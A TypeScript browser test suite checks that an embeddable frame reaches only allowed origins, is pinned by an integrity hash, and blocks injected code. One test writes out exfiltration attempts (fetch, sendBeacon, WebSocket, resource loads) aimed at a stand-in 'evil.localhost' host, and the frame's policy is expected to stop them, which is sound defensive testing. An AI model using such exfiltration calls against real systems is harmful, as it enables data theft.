import { createHash } from 'node:crypto'
import { frameAt, installTalk, pageWith } from '@symbolon/testing/browser'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type Shop, startShop, type Visit } from './support/shop.ts'

let shop: Shop
let visit: Visit

beforeAll(async () => {
  shop = await startShop()
  visit = await shop.visit()
})
afterAll(async () => {
  await visit.close()
  await shop.stop()
})

const urlsIn = (page: Page) => page.frames().map((frame) => frame.url())

test('a listed page that is itself embedded by an unlisted one does not get the frame', async () => {
  shop.pages.serve('/inner', pageWith(`<iframe src="${shop.frameUrl()}"></iframe>`))
  shop.pages.serve('/outer', pageWith(`<iframe src="${shop.origin}/inner"></iframe>`))
  const page = await visit.context.newPage()
  await page.goto(`${shop.origin}/inner`)
  expect(urlsIn(page)).toContain(shop.frameUrl())
  await page.goto(`${shop.pages.origin('other.localhost')}/outer`)
  expect(urlsIn(page)).toContain(`${shop.origin}/inner`)
  expect(urlsIn(page)).not.toContain(shop.frameUrl())
  await page.close()
})

test("another organization's page does not get this organization's frame", async () => {
  const rival = shop.pages.origin('rival.localhost')
  const { pk } = await shop.makeTenant({ allowedOrigins: [rival] })
  const page = await visit.context.newPage()
  for (const [origin, key, isShown] of [
    [rival, pk, true],
    [rival, shop.tenant.pk, false],
    [shop.origin, pk, false],
    [shop.origin, shop.tenant.pk, true],
  ] as const) {
    await page.goto(origin)
    await installTalk(page)
    await page.evaluate((url) => talk.embed(url), shop.frameUrl(key))
    expect(urlsIn(page).includes(shop.frameUrl(key)), `${origin} ${key}`).toBe(isShown)
  }
  await page.close()
})

test('opened by itself it runs, shows nothing to press, and says nothing', async () => {
  const page = await visit.context.newPage()
  const answer = await page.goto(shop.frameUrl())
  expect(answer?.status()).toBe(200)
  expect(await page.locator('button, input, a').count()).toBe(0)
  await page.close()
})

test('the page names its code by hash, the code has that hash, and other code does not run', async () => {
  const html = await (await fetch(shop.frameUrl())).text()
  const integrity = /<script type="module"[^>]*integrity="sha384-([^"]+)"/.exec(html)?.[1]
  const src = /<script type="module"[^>]*src="([^"]+)"/.exec(html)?.[1] ?? ''
  const code = Buffer.from(await (await fetch(new URL(src, shop.app.frameUrl))).arrayBuffer())
  expect(createHash('sha384').update(code).digest('base64')).toBe(integrity)

  const { context, page, close } = await shop.visit()
  await context.route(new URL(src, shop.app.frameUrl).href, async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: `${await response.text()}\n;` })
  })
  await installTalk(page)
  await page.evaluate((url) => talk.embed(url), shop.frameUrl())
  expect(await page.evaluate(() => talk.connect({}, { waitMs: 300 }))).toBeNull()
  await close()
})

/** Tries of code in a page. Lives there as `tries`. */
type Tries = {
  outcome(attempt: () => unknown): Promise<'done' | 'refused'>
  loads(tag: 'script' | 'img' | 'iframe' | 'link', url: string): Promise<unknown>
  opens(target: EventTarget, event: string): Promise<unknown>
}

declare global {
  var tries: Tries
}

/** Runs in the page: stands alone. */
function installTries(): void {
  globalThis.tries = {
    async outcome(attempt) {
      try {
        await attempt()
        return 'done'
      } catch {
        return 'refused'
      }
    },
    loads: (tag, url) =>
      new Promise((resolve, reject) => {
        const element = document.createElement(tag)
        element.onload = resolve
        element.onerror = reject
        if (element instanceof HTMLLinkElement) Object.assign(element, { rel: 'stylesheet', href: url })
        else element.setAttribute('src', url)
        document.body.append(element)
        setTimeout(reject, 300)
      }),
    opens: (target, event) =>
      new Promise((resolve, reject) => {
        target.addEventListener(event, resolve)
        target.addEventListener('error', reject)
      }),
  }
}

test('code that got into the frame could not run as text, load more, send anything elsewhere, or navigate by a form', async () => {
  const { page, traffic, close } = await shop.visit()
  await installTalk(page)
  await page.evaluate((url) => talk.embed(url), shop.frameUrl())
  const frame = await frameAt(page, shop.frameUrl())
  const elsewhere = shop.pages.origin('evil.localhost')
  await frame.evaluate(installTries)
  const outcomes = await frame.evaluate(async (evil) => {
    const { outcome, loads, opens } = globalThis.tries
    return {
      html: await outcome(() => {
        document.createElement('div').innerHTML = '<b>x</b>'
      }),
      fetch: await outcome(() => fetch(`${evil}/`, { mode: 'no-cors' })),
      beacon: await outcome(() => navigator.sendBeacon(`${evil}/`, 'x')),
      socket: await outcome(() => opens(new WebSocket(evil.replace('http', 'ws')), 'open')),
      script: await outcome(() => loads('script', `${evil}/`)),
      image: await outcome(() => loads('img', `${evil}/`)),
      stylesheet: await outcome(() => loads('link', `${evil}/`)),
      ownScript: await outcome(() => loads('script', '/v1/health')),
      worker: await outcome(() =>
        opens(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message'),
      ),
      inline: await outcome(() => {
        document.body.setAttribute('style', 'color: rgb(255, 0, 0)')
        if (getComputedStyle(document.body).color !== 'rgb(255, 0, 0)') throw new Error('refused')
      }),
    }
  }, elsewhere)
  expect(outcomes).toEqual({
    html: 'refused',
    fetch: 'refused',
    // It says so, but nothing is sent: see below.
    beacon: 'done',
    socket: 'refused',
    script: 'refused',
    image: 'refused',
    stylesheet: 'refused',
    ownScript: 'refused',
    worker: 'refused',
    inline: 'refused',
  })
  expect(shop.pages.requests.filter((request) => request.startsWith('evil.'))).toEqual([])
  // The recorder sees violations: that other tests find none means something.
  expect(traffic.violations).not.toEqual([])
  await close()
})
